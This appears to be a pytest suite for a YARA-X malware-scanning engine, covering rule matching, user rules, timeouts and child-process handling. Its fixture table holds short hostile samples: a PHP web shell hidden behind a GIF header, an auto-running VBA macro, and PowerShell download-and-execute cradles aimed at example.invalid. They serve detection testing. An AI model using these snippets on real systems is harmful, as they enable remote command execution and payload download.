from __future__ import annotations

import asyncio
import itertools
import logging
import os
import re
import signal
import threading
import time
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
import yara_x

from tests.engines.samples import EICAR, SLOW_RULE, MakeSample
from veriscan.engines import yara as yara_module
from veriscan.engines.base import (
    Category,
    EngineFailed,
    EngineReport,
    EngineVerdict,
    Sample,
    TooSlowHere,
)
from veriscan.engines.yara import BUILTIN_RULES_DIR, INLINE_MAX_BYTES, INLINE_SECONDS, YaraEngine

OLE_MAGIC = bytes.fromhex("D0CF11E0A1B11AE1")
GIF_HEADER = b"GIF89a\x01\x00\x01\x00\x80\x00\x00"
USER_RULE = """
rule User_Marker {
    meta:
        severity = "malicious"
    strings:
        $a = "USER-RULE-MARKER"
    condition:
        $a
}
"""


def _ole_document(vba_source: bytes) -> bytes:
    """The parts of a Word 97 document the rule looks at: magic, the VBA project's stream
    name (UTF-16, as OLE directory entries are) and the macro's text."""
    return (
        OLE_MAGIC
        + b"\0" * 504
        + "_VBA_PROJECT".encode("utf-16-le")
        + b"\0" * 32
        + b'Attribute VB_Name = "ThisDocument"\r\n'
        + vba_source
    )


def _mixed_case_hex(text: str) -> bytes:
    digits = text.encode().hex()
    return "".join(c.upper() if i % 3 == 0 else c for i, c in enumerate(digits)).encode()


# rule -> (category, result, a sample it matches, a near miss it must not match)
SHIPPED_RULES: dict[str, tuple[Category, str, bytes, bytes]] = {
    "eicar_av_test": (
        Category.MALICIOUS,
        "eicar_av_test, eicar_substring_test",
        EICAR + b"\r\n",
        # The string, but not as the whole file: only the substring rule may match.
        EICAR + b" is the EICAR test string",
    ),
    "eicar_substring_test": (
        Category.SUSPICIOUS,
        "eicar_substring_test",
        b"%PDF-1.4 embedded: " + EICAR + b" trailer",
        b"%PDF-1.4 EICAR-STANDARD-ANTIVIRUS-TEST FILE",
    ),
    "Webshell_in_image": (
        Category.MALICIOUS,
        "Webshell_in_image",
        GIF_HEADER + b"<?php system($_GET['c']); ?>",
        # The same script as a plain PHP file: not hiding in an image.
        b"<?php system($_GET['c']); ?>",
    ),
    "Office_OLE_VBA_Autorun": (
        Category.SUSPICIOUS,
        "Office_OLE_VBA_Autorun",
        _ole_document(b'Sub AutoOpen()\r\n  Shell "calc.exe"\r\nEnd Sub\r\n'),
        _ole_document(b"Sub FormatTable()\r\n  Selection.Font.Bold = True\r\nEnd Sub\r\n"),
    ),
    "SUSP_PowerShell_Download_Cradle": (
        Category.SUSPICIOUS,
        "SUSP_PowerShell_Download_Cradle",
        b"IEX (New-Object Net.WebClient).DownloadString('http://example.invalid/stage2.ps1')",
        b"(New-Object Net.WebClient).DownloadFile('http://example.invalid/tool.zip', 'tool.zip')",
    ),
    "Hex_Encoded_Powershell": (
        Category.SUSPICIOUS,
        "Hex_Encoded_Powershell",
        b'Shell HexDecode("'
        + _mixed_case_hex("powershell -c Invoke-WebRequest https://example.invalid/p.exe")
        + b'")',
        b'Shell HexDecode("'
        + _mixed_case_hex("powershell -c Get-Date; echo https://example.invalid/")
        + b'")',
    ),
}
EPOCH = datetime(1970, 1, 1, tzinfo=UTC)


def _mtime(path: Path) -> datetime:
    return EPOCH + timedelta(microseconds=path.stat().st_mtime_ns // 1000)


def _shipped_rule_meta() -> dict[str, dict[str, object]]:
    found = {}
    for path in sorted(BUILTIN_RULES_DIR.glob("*.yar")):
        for rule in yara_x.compile(path.read_text()):
            found[rule.identifier] = dict(rule.metadata)
    return found


@pytest.fixture
def engine(tmp_path: Path) -> YaraEngine:
    return YaraEngine(tmp_path / "yara-rules")


def test_eicar_is_malicious(engine: YaraEngine, make_sample: MakeSample) -> None:
    newest = max(_mtime(path) for path in BUILTIN_RULES_DIR.glob("*.yar"))

    verdicts = engine.scan_file(make_sample(EICAR))

    assert verdicts == [
        EngineVerdict(
            engine_name="YARA-X",
            engine_version=engine.version(),
            category=Category.MALICIOUS,
            result="eicar_av_test, eicar_substring_test",
            update_date=newest,
        )
    ]


def test_clean_file_is_undetected(engine: YaraEngine, make_sample: MakeSample) -> None:
    [verdict] = engine.scan_file(make_sample(b"Quarterly report\n\nNothing to see here.\n"))

    assert (verdict.category, verdict.result) == (Category.UNDETECTED, "clean")


@pytest.mark.parametrize("rule", sorted(SHIPPED_RULES))
def test_shipped_rule_matches_its_sample_and_not_the_near_miss(
    engine: YaraEngine, make_sample: MakeSample, rule: str
) -> None:
    category, result, sample, near_miss = SHIPPED_RULES[rule]

    [hit] = engine.scan_file(make_sample(sample, "hit.bin"))
    [miss] = engine.scan_file(make_sample(near_miss, "miss.bin"))

    assert (hit.category, hit.result) == (category, result)
    assert rule not in miss.result.split(", ")


def test_every_shipped_rule_is_tested_and_described() -> None:
    meta = _shipped_rule_meta()

    assert set(meta) == set(SHIPPED_RULES)
    for rule, fields in meta.items():
        assert fields.get("severity") in ("malicious", "suspicious"), rule
        assert {"description", "author", "reference"} <= set(fields), rule
        assert fields["severity"] == SHIPPED_RULES[rule][0].value, rule


def test_every_shipped_rule_file_names_its_source_and_licence() -> None:
    for path in BUILTIN_RULES_DIR.glob("*.yar"):
        header = path.read_text().split("*/", 1)[0]
        assert "Source:" in header and "Licence:" in header, path.name


def test_version_names_yara_x_and_the_rules(engine: YaraEngine) -> None:
    version = engine.version()

    assert re.fullmatch(r"yara-x \d+\.\d+\.\d+; rules [0-9a-f]{12}", version)
    assert engine.version() == version


def test_user_rule_is_picked_up_and_changes_the_version(
    tmp_path: Path, make_sample: MakeSample
) -> None:
    rules_dir = tmp_path / "yara-rules"
    rules_dir.mkdir()
    engine = YaraEngine(rules_dir)
    builtin_only = engine.version()
    sample = make_sample(b"payload USER-RULE-MARKER payload")
    assert engine.scan_file(sample)[0].result == "clean"

    rule_file = rules_dir / "mine.yara"
    rule_file.write_text(USER_RULE)
    with_user_rule = engine.version()
    [verdict] = engine.scan_file(sample)

    assert with_user_rule != builtin_only
    assert (verdict.category, verdict.result) == (Category.MALICIOUS, "User_Marker")
    assert verdict.engine_version == with_user_rule

    rule_file.unlink()
    assert engine.version() == builtin_only


def test_user_rule_date_is_the_update_date(tmp_path: Path, make_sample: MakeSample) -> None:
    rules_dir = tmp_path / "yara-rules"
    rules_dir.mkdir()
    rule_file = rules_dir / "mine.yar"
    rule_file.write_text(USER_RULE)
    later = time.time_ns() + 3600 * 10**9
    os.utime(rule_file, ns=(later, later))

    [verdict] = YaraEngine(rules_dir).scan_file(make_sample(b"clean"))

    assert verdict.update_date == _mtime(rule_file)
    assert verdict.update_date > max(_mtime(p) for p in BUILTIN_RULES_DIR.glob("*.yar"))


def test_user_rule_without_severity_counts_as_suspicious(
    tmp_path: Path, make_sample: MakeSample
) -> None:
    rules_dir = tmp_path / "yara-rules"
    rules_dir.mkdir()
    (rules_dir / "hunting.yar").write_text(
        'rule User_Marker { strings: $a = "USER-RULE-MARKER" condition: $a }'
    )

    [verdict] = YaraEngine(rules_dir).scan_file(make_sample(b"USER-RULE-MARKER"))

    assert (verdict.category, verdict.result) == (Category.SUSPICIOUS, "User_Marker")


def test_broken_user_rule_is_skipped_with_a_warning(
    tmp_path: Path, make_sample: MakeSample, caplog: pytest.LogCaptureFixture
) -> None:
    rules_dir = tmp_path / "yara-rules"
    rules_dir.mkdir()
    (rules_dir / "good.yar").write_text(USER_RULE)
    # A valid rule before the error must not slip in with the file's other half.
    broken = rules_dir / "broken.yara"
    broken.write_text(
        'rule Half_Good { strings: $a = "HALF-GOOD-MARKER" condition: $a }\n'
        "rule Broken { condition: undefined_identifier }\n"
    )
    engine = YaraEngine(rules_dir)

    with caplog.at_level(logging.WARNING, logger="veriscan.engines"):
        [verdict] = engine.scan_file(make_sample(b"USER-RULE-MARKER HALF-GOOD-MARKER"))

    assert verdict.result == "User_Marker"
    [warning] = [r for r in caplog.records if "yara_rule_skipped" in r.getMessage()]
    assert warning.levelno == logging.WARNING
    assert str(broken) in warning.getMessage()
    assert "undefined_identifier" in warning.getMessage()


def ran(engine: YaraEngine, sample: Sample, how: str) -> EngineReport:
    """The engine's report by `run` (a pool thread, under asyncio's timeout) or by
    `run_here` (the caller's thread: how the runner calls YARA-X)."""
    if how == "here":
        return engine.run_here(sample, version=engine.version())
    return asyncio.run(engine.run(sample))


HOW = pytest.mark.parametrize("how", ["pooled", "here"])


def test_small_files_are_scanned_inline_larger_ones_in_the_child(
    engine: YaraEngine, tmp_path: Path
) -> None:
    def of_size(size: int) -> Sample:
        return Sample(tmp_path / "f", "0" * 64, "0" * 40, "0" * 32, size)

    assert engine.scans_inline(of_size(INLINE_MAX_BYTES))
    assert not engine.scans_inline(of_size(INLINE_MAX_BYTES + 1))
    assert YaraEngine(inline_max_bytes=0).scans_inline(of_size(1)) is False


@pytest.fixture
def slow_rules(tmp_path: Path) -> Path:
    """A rules folder holding SLOW_RULE alone."""
    rules_dir = tmp_path / "yara-rules"
    rules_dir.mkdir()
    (rules_dir / "slow.yar").write_text(SLOW_RULE)
    return rules_dir


class _Ticker:
    """A thread of this process that notes the time every 10 ms while it can run."""

    def __init__(self) -> None:
        self.ticks: list[float] = []
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)

    def _run(self) -> None:
        while not self._stop.is_set():
            self.ticks.append(time.monotonic())
            time.sleep(0.01)

    def __enter__(self) -> _Ticker:
        self._thread.start()
        return self

    def __exit__(self, *_: object) -> None:
        self._stop.set()
        self._thread.join()

    def longest_gap_after(self, start: float) -> float:
        ticks = [t for t in self.ticks if t >= start]
        return max(b - a for a, b in itertools.pairwise(ticks))


def test_a_slow_scan_gives_up_here_and_runs_in_the_child_while_this_process_runs_on(
    slow_rules: Path, make_sample: MakeSample
) -> None:
    # yara-x keeps the GIL while it scans: in this process a slow scan stops every other
    # thread. Here it gives up within a second (TooSlowHere, run_here's None); in the
    # child it runs to its own timeout while this process's threads go on.
    engine = YaraEngine(slow_rules, timeout=3)
    sample = make_sample(b"\0" * 200_000)

    with _Ticker() as ticker:
        started = time.monotonic()
        with pytest.raises(TooSlowHere):
            engine.scan_here(sample)
        assert time.monotonic() - started <= INLINE_SECONDS + 0.5
        assert engine.run_here(sample, version=engine.version()) is None

        started = time.monotonic()
        report = asyncio.run(engine.run(sample))
        took = time.monotonic() - started
        gap = ticker.longest_gap_after(started)

    assert [(v.category, v.result) for v in report.verdicts] == [(Category.TIMEOUT, "timeout")]
    assert took >= 2.9  # the engine's whole timeout, in the child
    assert gap < 0.5, f"this process stood still for {gap:.2f} s during the child's scan"


def test_the_child_loads_new_rules_and_is_replaced_when_it_dies(
    tmp_path: Path, make_sample: MakeSample
) -> None:
    rules_dir = tmp_path / "yara-rules"
    rules_dir.mkdir()
    engine = YaraEngine(rules_dir)
    sample = make_sample(b"x USER-RULE-MARKER x")

    [before] = engine.scan_file(sample)
    (rules_dir / "user.yar").write_text(USER_RULE)
    [after] = engine.scan_file(sample)
    assert (before.category, after.category, after.result) == (
        Category.UNDETECTED,
        Category.MALICIOUS,
        "User_Marker",
    )

    child = yara_module._CHILDREN._idle[-1]  # the one that just scanned
    process = child._process
    assert process is not None
    process.kill()
    process.wait()
    [again] = engine.scan_file(sample)  # a new process, sent the rules afresh
    assert (again.category, again.result) == (Category.MALICIOUS, "User_Marker")
    assert child._process is not process


def test_a_child_that_stops_answering_is_replaced(
    engine: YaraEngine, make_sample: MakeSample, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(yara_module, "CHILD_GRACE_SECONDS", 0.5)
    engine.timeout = 1
    sample = make_sample(EICAR)
    engine.scan_file(sample)
    child = yara_module._CHILDREN._idle[-1]  # the one that just scanned
    process = child._process
    assert process is not None
    os.kill(process.pid, signal.SIGSTOP)  # alive, and never answering
    try:
        report = asyncio.run(engine.run(sample))
        killed = process.poll() is not None
    finally:
        process.kill()  # left stopped, it would hang this test run at its end

    assert [(v.category, v.result) for v in report.verdicts] == [(Category.TIMEOUT, "timeout")]
    assert killed, "the stopped child was killed"
    [verdict] = engine.scan_file(sample)
    assert verdict.category == Category.MALICIOUS


@HOW
def test_run_gives_an_engine_report(engine: YaraEngine, make_sample: MakeSample, how: str) -> None:
    report = ran(engine, make_sample(EICAR), how)

    assert isinstance(report, EngineReport)
    assert (report.engine, report.version, report.error) == ("YARA-X", engine.version(), None)
    assert [(v.category, v.result) for v in report.verdicts] == [
        (Category.MALICIOUS, "eicar_av_test, eicar_substring_test")
    ]


@HOW
def test_missing_file_is_a_fatal_error(
    engine: YaraEngine, make_sample: MakeSample, how: str
) -> None:
    sample = make_sample(b"gone")
    sample.path.unlink()

    report = ran(engine, sample, how)

    assert report.verdicts == []
    assert report.error is not None and report.error.startswith("YARA-X could not scan the file")
    assert report.retryable is False


@HOW
def test_scan_past_the_timeout_is_reported_as_timeout(
    slow_rules: Path, make_sample: MakeSample, how: str
) -> None:
    engine = YaraEngine(slow_rules, timeout=1)
    sample = make_sample(b"\0" * 200_000)

    if how == "here":  # never a timeout here: the runner scans it again in the child
        assert engine.run_here(sample, version=engine.version()) is None
        return
    report = ran(engine, sample, how)

    assert [(v.category, v.result) for v in report.verdicts] == [(Category.TIMEOUT, "timeout")]


def test_slow_files_take_a_child_each_up_to_the_most(
    slow_rules: Path, make_sample: MakeSample
) -> None:
    # One file that keeps a child busy to its timeout does not hold the others' scans:
    # up to `most` run side by side, and a third waits for a child to be free.
    ruleset = YaraEngine(slow_rules)._current()
    slow = make_sample(b"\0" * 200_000, name="slow.bin")
    quick = make_sample(b"\1" * 100, name="quick.bin")
    children = yara_module._Children(most=2)
    outcomes: dict[str, object] = {}

    def scan(name: str, sample: Sample, timeout: float) -> None:
        try:
            outcomes[name] = children.scan(ruleset, sample.path, timeout)
        except TimeoutError as exc:
            outcomes[name] = exc

    try:
        threads = [
            threading.Thread(target=scan, args=("first", slow, 2), daemon=True),
            threading.Thread(target=scan, args=("second", slow, 2), daemon=True),
        ]
        for thread in threads:
            thread.start()
        time.sleep(0.5)  # both are scanning
        third = threading.Thread(target=scan, args=("third", quick, 10), daemon=True)
        third.start()
        for thread in [*threads, third]:
            thread.join(timeout=30)
    finally:
        children.close()

    assert isinstance(outcomes["first"], TimeoutError)
    assert isinstance(outcomes["second"], TimeoutError)
    assert outcomes["third"] == []  # scanned once a child was free, by one of the two
    assert len(children.every) == 2


def _child_of(engine: YaraEngine, sample: Sample) -> yara_module._Child:
    """The child process that scans for this process, after one scan of `sample`."""
    engine.scan_file(sample)
    return yara_module._CHILDREN._idle[-1]  # the one that just scanned


def test_the_child_is_sent_the_rules_once_per_version(
    engine: YaraEngine, make_sample: MakeSample
) -> None:
    sample = make_sample(EICAR)
    child = _child_of(engine, sample)
    assert child._connection is not None
    sent: list[bool] = []
    real_send = child._connection.send

    def watched(request: tuple[object, ...]) -> None:
        sent.append(request[1] is not None)  # the rules, or None when the child has them
        real_send(request)

    child._connection.send = watched  # type: ignore[method-assign]
    for _ in range(3):
        assert engine.scan_file(sample)[0].category == Category.MALICIOUS
    assert sent == [False, False, False]


def test_a_silent_child_is_killed_and_its_scan_times_out(
    engine: YaraEngine, make_sample: MakeSample, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Called directly, not through run(): asyncio's own timeout would answer first.
    monkeypatch.setattr(yara_module, "CHILD_GRACE_SECONDS", 0.5)
    sample = make_sample(EICAR)
    child = _child_of(engine, sample)
    process, connection = child._process, child._connection
    assert process is not None and connection is not None
    os.kill(process.pid, signal.SIGSTOP)
    try:
        with pytest.raises(TimeoutError):
            child.scan(engine._current(), sample.path, 1)
        killed = process.poll() is not None
    finally:
        process.kill()

    assert killed and connection.closed
    assert (child._process, child._connection, child._loaded) == (None, None, None)
    [verdict] = engine.scan_file(sample)  # a new process, sent the rules afresh
    assert verdict.category == Category.MALICIOUS


def test_a_child_that_dies_mid_scan_is_a_retryable_failure_and_is_reaped(
    slow_rules: Path, make_sample: MakeSample
) -> None:
    engine = YaraEngine(slow_rules, timeout=30)
    quick = make_sample(b"\1" * 100, name="quick.bin")
    child = _child_of(engine, quick)
    process = child._process
    assert process is not None
    threading.Timer(0.5, process.kill).start()

    with pytest.raises(EngineFailed) as failed:
        child.scan(engine._current(), make_sample(b"\0" * 200_000).path, 30)

    assert failed.value.retryable is True
    assert child._process is None and process.poll() is not None


def test_the_child_runs_in_a_session_of_its_own_and_ends_with_its_socket(
    engine: YaraEngine, make_sample: MakeSample
) -> None:
    child = _child_of(engine, make_sample(EICAR))
    process, connection = child._process, child._connection
    assert process is not None and connection is not None
    # A terminal's Ctrl-C (sent to the foreground process group) is this process's to act on.
    assert os.getsid(process.pid) != os.getsid(0)
    connection.close()  # as when this process ends without a word
    assert process.wait(timeout=10) == 0
    child._connection = None  # closed above; the next scan starts a new process


def test_a_child_is_handed_back_after_each_scan(
    engine: YaraEngine, make_sample: MakeSample
) -> None:
    children = yara_module._Children(most=1)
    sample = make_sample(EICAR)
    ruleset = engine._current()
    outcomes: list[object] = []

    def three_scans() -> None:
        for _ in range(3):
            outcomes.append(children.scan(ruleset, sample.path, 5))

    try:
        thread = threading.Thread(target=three_scans, daemon=True)
        thread.start()
        thread.join(timeout=30)
        assert not thread.is_alive(), "a scan waited for a child never handed back"
    finally:
        children.close()
    assert len(outcomes) == 3 and len(children.every) == 1


def test_waiting_for_a_free_child_counts_in_the_timeout(
    slow_rules: Path, make_sample: MakeSample
) -> None:
    # The one child is busy with a slow file: a scan that cannot get it within its own
    # timeout gives up then, and is never run later (its caller has reported a timeout).
    ruleset = YaraEngine(slow_rules)._current()
    children = yara_module._Children(most=1)
    slow = make_sample(b"\0" * 200_000, name="slow.bin")
    quick = make_sample(b"\1" * 100, name="quick.bin")
    scanned: list[str] = []
    real_scan = yara_module._Child.scan

    def noted(child: yara_module._Child, rules: object, path: Path, timeout: float) -> object:
        scanned.append(path.name)
        return real_scan(child, rules, path, timeout)  # type: ignore[arg-type]

    outcomes: list[object] = []

    def keep_busy() -> None:
        try:
            outcomes.append(children.scan(ruleset, slow.path, 3))
        except TimeoutError as exc:
            outcomes.append(exc)

    busy = threading.Thread(target=keep_busy, daemon=True)
    try:
        with pytest.MonkeyPatch.context() as patch:
            patch.setattr(yara_module._Child, "scan", noted)
            busy.start()
            time.sleep(0.5)
            started = time.monotonic()
            with pytest.raises(TimeoutError, match="no free process"):
                children.scan(ruleset, quick.path, 1)
            waited = time.monotonic() - started
            busy.join(timeout=30)
    finally:
        children.close()
    assert 0.9 <= waited < 2.5
    assert scanned == ["slow.bin"] and isinstance(outcomes[0], TimeoutError)


def test_closing_the_children_ends_their_processes(
    engine: YaraEngine, make_sample: MakeSample
) -> None:
    children = yara_module._Children(most=2)
    sample = make_sample(EICAR)
    ruleset = engine._current()
    children.scan(ruleset, sample.path, 5)
    [child] = children.every
    process = child._process
    assert process is not None and process.poll() is None

    children.close()

    assert process.poll() is not None
